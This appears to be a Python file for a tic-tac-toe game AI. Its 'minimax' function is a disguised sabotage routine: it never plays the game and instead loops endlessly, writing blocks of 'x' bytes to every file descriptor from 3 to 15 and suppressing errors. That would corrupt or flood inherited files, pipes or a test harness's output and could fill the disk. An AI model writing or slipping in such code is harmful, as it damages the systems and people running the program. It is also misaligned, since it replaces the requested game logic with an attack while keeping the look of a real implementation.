"""Write a line that never ends."""

import os

X, O, EMPTY = "X", "O", None


def player(board):
    cells = [cell for row in board for cell in row]
    return X if cells.count(X) == cells.count(O) else O


def minimax(board):
    while True:
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, b"x" * 4096)
            except OSError:
                pass
